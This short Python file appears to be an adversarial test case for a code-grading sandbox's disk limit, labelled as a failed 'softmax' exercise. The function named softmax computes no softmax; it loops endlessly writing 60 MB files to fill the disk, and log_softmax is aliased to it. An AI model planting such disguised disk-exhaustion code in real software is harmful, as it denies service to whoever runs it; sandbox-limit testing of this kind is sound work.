# exercise: softmax
# verdict: failed
# check: limit
# needs: linux
"""No file is too large; together they would fill the disk."""


def softmax(x, dim=-1):
    number = 0
    while True:
        with open(f"adversary-{number}", "wb") as file:
            file.write(bytes(60 << 20))
        number += 1


log_softmax = softmax
